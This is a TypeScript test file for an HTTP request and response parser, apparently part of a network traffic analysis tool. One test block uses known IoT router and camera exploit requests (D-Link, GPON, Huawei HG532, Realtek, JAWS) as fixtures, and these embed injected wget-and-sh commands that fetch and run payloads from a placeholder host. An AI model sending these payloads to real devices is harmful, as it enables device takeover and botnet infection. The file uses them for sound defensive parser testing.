import { describe, expect, it } from "vitest";
import { bytes, text } from "./flow-fixture.js";
import {
  headerValue,
  looksLikeHttpRequest,
  parseHttpRequests,
  parseHttpResponses,
  startsLikeRequest,
} from "./http.js";
import { MAX_HEADERS, MAX_LINE } from "./http-message.js";

const req = (s: string) => parseHttpRequests(bytes(s));

describe("exploit shapes from data/poc-facts", () => {
  it("uc-httpd CVE-2018-10088: POST line then form data, no Host, no Content-Length", () => {
    const form = `command=login&username=${"A".repeat(85)}&password=PoC`;
    const [r, ...rest] = req(`POST /login.htm HTTP/1.1\r\n${form}\r\n\r\n`);
    expect(rest).toEqual([]);
    expect(r).toMatchObject({ method: "POST", target: "/login.htm", version: "HTTP/1.1" });
    // Like libhtp: a line without a colon is a field with an empty name, so header rules see it.
    expect(r?.headers).toEqual([["", form]]);
    expect(r?.problems).toEqual(expect.arrayContaining(["header_without_colon", "no_host"]));
    expect(r?.body.length).toBe(0);
    expect(r?.length).toBe(26 + form.length + 4);
  });

  it("uc-httpd variant whose form data follows an empty line: kept as the body", () => {
    const form = `command=login&username=${"A".repeat(85)}&password=PoC`;
    const [r, ...rest] = req(`POST /login.htm HTTP/1.1\r\n\r\n${form}\r\n\r\n`);
    expect(rest).toEqual([]);
    expect(text(r?.body ?? new Uint8Array())).toBe(`${form}\r\n\r\n`);
    expect(r?.problems).toContain("body_without_length");
  });

  it("D-Link DSL-2750B login.cgi cli injection keeps the raw target", () => {
    const target =
      "/login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.7/r%20-O%20-%3E%20/tmp/r;sh%20/tmp/r%27$";
    const [r] = req(
      `GET ${target} HTTP/1.1\r\nHost: 203.0.113.5:8080\r\nUser-Agent: Hello\r\n\r\n`,
    );
    expect(r).toMatchObject({ method: "GET", target, version: "HTTP/1.1", problems: [] });
    expect(headerValue(r?.headers ?? [], "user-agent")).toBe("Hello");
  });

  it("GPON diag_Form POST with a Content-Length body", () => {
    const body =
      "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/m+-O+->/tmp/m`;sh+/tmp/m&ipv=0";
    const [r] = req(
      "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nConnection: keep-alive\r\n" +
        `Accept: */*\r\nUser-Agent: Hello, World\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
    );
    expect(r?.target).toBe("/GponForm/diag_Form?images/");
    expect(headerValue(r?.headers ?? [], "User-Agent")).toBe("Hello, World");
    expect(text(r?.body ?? new Uint8Array())).toBe(body);
    expect(r?.problems).toEqual([]);
  });

  it("Huawei HG532 SOAP upgrade with Digest Authorization and Content-Length", () => {
    const body =
      '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>' +
      '<u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g 198.51.100.7 -l /tmp/x -r /x)</NewStatusURL>' +
      "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>";
    const auth =
      'Digest username="dslf-config", realm="HuaweiHomeGateway", nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, cnonce="248d1a2560100669"';
    const [r] = req(
      `POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: ${body.length}\r\nConnection: keep-alive\r\n` +
        `Accept: */*\r\nAuthorization: ${auth}\r\n\r\n${body}`,
    );
    expect(r?.target).toBe("/ctrlt/DeviceUpgrade_1");
    expect(headerValue(r?.headers ?? [], "authorization")).toBe(auth);
    expect(text(r?.body ?? new Uint8Array())).toBe(body);
    expect(r?.problems).toEqual(["no_host"]);
  });

  it("Realtek miniigd AddPortMapping SOAP", () => {
    const body =
      '<?xml version="1.0" ?><s:Envelope><s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1">' +
      "<NewInternalClient>`cd /tmp;wget http://198.51.100.7/r;sh r`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>";
    const [r] = req(
      `POST /picdesc.xml HTTP/1.1\r\nHost: 203.0.113.9:52869\r\nContent-Length: ${body.length}\r\n` +
        `SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n${body}`,
    );
    expect(headerValue(r?.headers ?? [], "soapaction")).toContain("#AddPortMapping");
    expect(text(r?.body ?? new Uint8Array())).toContain("<NewInternalClient>`cd /tmp;");
  });

  it("JAWS /shell? GET with HTTP/1.1 and no headers at all", () => {
    const [r] = req(
      "GET /shell?cd+/tmp;rm+-rf+*;wget+ http://198.51.100.7/arm;sh+/tmp/arm HTTP/1.1\r\n\r\n",
    );
    expect(r?.target).toBe("/shell?cd+/tmp;rm+-rf+*;wget+ http://198.51.100.7/arm;sh+/tmp/arm");
    expect(r?.problems).toEqual(expect.arrayContaining(["bad_request_line", "no_host"]));
  });
});

describe("parseHttpRequests", () => {
  it("parses pipelined requests and their offsets", () => {
    const a = "GET /a HTTP/1.1\r\nHost: x\r\n\r\n";
    const b = "POST /b HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\nabc";
    const c = "GET /c HTTP/1.0\r\n\r\n";
    const rs = req(a + b + c);
    expect(rs.map((r) => [r.method, r.target, r.offset, r.length])).toEqual([
      ["GET", "/a", 0, a.length],
      ["POST", "/b", a.length, b.length],
      ["GET", "/c", a.length + b.length, c.length],
    ]);
    expect(text(rs[1]?.body ?? new Uint8Array())).toBe("abc");
  });

  it("decodes chunked bodies with extensions and trailers", () => {
    const rs = req(
      "POST /u HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" +
        "5;name=v\r\nhello\r\n6\r\n world\r\n0\r\nX-Trailer: yes\r\n\r\nGET /next HTTP/1.1\r\nHost: x\r\n\r\n",
    );
    expect(rs.length).toBe(2);
    expect(text(rs[0]?.body ?? new Uint8Array())).toBe("hello world");
    expect(headerValue(rs[0]?.headers ?? [], "x-trailer")).toBe("yes");
    expect(rs[0]?.problems).toEqual([]);
    expect(rs[1]?.target).toBe("/next");
  });

  it("records a bad chunk size and keeps the raw rest in the body", () => {
    const [r] = req(
      "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\nzz\r\nrest",
    );
    expect(r?.problems).toContain("bad_chunk");
    expect(text(r?.body ?? new Uint8Array())).toBe("abczz\r\nrest");
  });

  it("flags Transfer-Encoding together with Content-Length (smuggling shape)", () => {
    const [r] = req(
      "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    );
    expect(r?.problems).toContain("te_and_cl");
    expect(r?.body.length).toBe(0);
  });

  it("tolerates LF-only line ends, several spaces and obs-fold", () => {
    const [r] = req("GET   /x   HTTP/1.1\nHost: a\nX-Long: one\n  two\n\tthree\n\n");
    expect(r).toMatchObject({ method: "GET", target: "/x", version: "HTTP/1.1" });
    expect(headerValue(r?.headers ?? [], "x-long")).toBe("one two three");
    expect(r?.problems).toEqual(expect.arrayContaining(["bad_request_line", "obs_fold"]));
  });

  it("reads a missing version as HTTP/0.9 style", () => {
    const rs = req("GET /index.html\r\nGET /b HTTP/1.0\r\n\r\n");
    expect(rs.map((r) => [r.target, r.version])).toEqual([
      ["/index.html", ""],
      ["/b", "HTTP/1.0"],
    ]);
    expect(rs[0]?.problems).toContain("http09");
    const [h] = req("GET /x\r\nHost: y\r\n\r\n");
    expect(headerValue(h?.headers ?? [], "host")).toBe("y");
  });

  it("cuts short bodies and unfinished headers, saying so", () => {
    const [a] = req("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\nonly ten b");
    expect(text(a?.body ?? new Uint8Array())).toBe("only ten b");
    expect(a?.problems).toContain("truncated");
    const [b] = req("GET / HTTP/1.1\r\nHost: x\r\nUser-Ag");
    expect(b?.problems).toContain("truncated");
    const [c] = req("GET /unfinished-line");
    expect(c).toMatchObject({ target: "/unfinished-line", problems: ["truncated"] });
  });

  it("rejects bad Content-Length values and keeps following bytes as the body", () => {
    const [r] = req("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1x\r\n\r\nbody");
    expect(r?.problems).toEqual(
      expect.arrayContaining(["bad_content_length", "body_without_length"]),
    );
    expect(text(r?.body ?? new Uint8Array())).toBe("body");
  });

  it("marks malformed request lines but still returns them", () => {
    const [r] = req("GET /a b c HTTP/1.1\r\nHost: x\r\n\r\n");
    expect(r).toMatchObject({ target: "/a b c", version: "HTTP/1.1" });
    expect(r?.problems).toContain("bad_request_line");
    const [v] = req("GET / HTTP/9\r\n\r\n");
    expect(v?.problems).toContain("bad_version");
    const [n] = req("GET / HTTP/1.1\r\nBad Name: v\r\n: empty\r\n\r\n");
    expect(n?.problems).toContain("bad_header_name");
  });

  it("notes bytes after the last request that are not HTTP", () => {
    const rs = req("GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n\x00\x01binary");
    expect(rs.length).toBe(1);
    expect(rs[0]?.problems).toContain("trailing_garbage");
  });

  it("returns nothing for bytes that do not start like a request", () => {
    expect(req("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")).toEqual([]);
    expect(req("get / HTTP/1.1\r\n\r\n")).toEqual([]);
    expect(req("GET/ HTTP/1.1\r\n\r\n")).toEqual([]);
    expect(req("")).toEqual([]);
    expect(startsLikeRequest(bytes("M-SEARCH * HTTP/1.1"))).toBe(true);
    expect(startsLikeRequest(bytes("-X / HTTP/1.1"))).toBe(false);
  });

  it("tells HTTP from other line protocols with uppercase commands", () => {
    expect(looksLikeHttpRequest(bytes("GET /x\r\n"))).toBe(true);
    expect(looksLikeHttpRequest(bytes("M-SEARCH * HTTP/1.1\r\n"))).toBe(true);
    expect(looksLikeHttpRequest(bytes("GETS /x HTTP/1.1\r\n"))).toBe(true);
    expect(looksLikeHttpRequest(bytes("XYZ / HTTP/1.0"))).toBe(true);
    // IRC from a Muhstik bot (CTU-IoT-Malware-Capture-3-1) and SMTP.
    expect(looksLikeHttpRequest(bytes("NICK A5|1|5358668|black-pe\nUSER muhstik localhost"))).toBe(
      false,
    );
    expect(looksLikeHttpRequest(bytes("EHLO mail.example\r\nHTTP/1.1"))).toBe(false);
    expect(looksLikeHttpRequest(bytes("\x16\x03\x01"))).toBe(false);
  });

  it("enforces the message, header and line limits", () => {
    const many = "GET / HTTP/1.1\r\nHost: x\r\n\r\n".repeat(120);
    const rs = req(many);
    expect(rs.length).toBe(100);
    expect(rs[99]?.problems).toContain("too_many_requests");
    let h = "GET / HTTP/1.1\r\n";
    for (let i = 0; i < 250; i++) h += `X-${i}: ${i}\r\n`;
    const [r] = req(`${h}\r\n`);
    expect(r?.headers.length).toBe(MAX_HEADERS);
    expect(r?.problems).toContain("too_many_headers");
    const [l] = req(`GET /${"a".repeat(MAX_LINE + 10)} HTTP/1.1\r\nHost: x\r\n\r\n`);
    expect(l?.problems).toContain("line_too_long");
    expect(headerValue(l?.headers ?? [], "host")).toBe("x");
  });

  it("decodes bytes as latin1, one char per byte", () => {
    const raw = new Uint8Array([
      ...bytes("GET /"),
      0xe9,
      0xff,
      0x80,
      ...bytes(" HTTP/1.0\r\n\r\n"),
    ]);
    const [r] = parseHttpRequests(raw);
    expect(r?.target).toBe("/\u00e9\u00ff\u0080");
  });
});

describe("parseHttpResponses", () => {
  it("parses status, headers and bodies of several responses", () => {
    const rs = parseHttpResponses(
      bytes(
        "HTTP/1.1 100 Continue\r\n\r\n" +
          "HTTP/1.1 200 OK\r\nServer: uc-httpd 1.0.0\r\nContent-Length: 2\r\n\r\nok" +
          "HTTP/1.1 304 Not Modified\r\nContent-Length: 99\r\n\r\n" +
          "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nab\r\n0\r\n\r\n" +
          "HTTP/1.0 404 Not Found\r\n\r\nuntil close",
      ),
    );
    expect(rs.map((r) => [r.status, r.reason, text(r.body)])).toEqual([
      [100, "Continue", ""],
      [200, "OK", "ok"],
      [304, "Not Modified", ""],
      [200, "OK", "ab"],
      [404, "Not Found", "until close"],
    ]);
    expect(headerValue(rs[1]?.headers ?? [], "server")).toBe("uc-httpd 1.0.0");
  });

  it("reads a response to HEAD without a body", () => {
    const rs = parseHttpResponses(
      bytes(
        "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi",
      ),
      ["HEAD", "GET"],
    );
    expect(rs.map((r) => text(r.body))).toEqual(["", "hi"]);
  });

  it("records broken status lines and truncation", () => {
    const [r] = parseHttpResponses(bytes("HTTP/1.1 OK\r\nContent-Length: 9\r\n\r\nabc"));
    expect(r?.problems).toEqual(expect.arrayContaining(["bad_status_line", "truncated"]));
    expect(parseHttpResponses(bytes("SSH-2.0-OpenSSH\r\n"))).toEqual([]);
  });
});
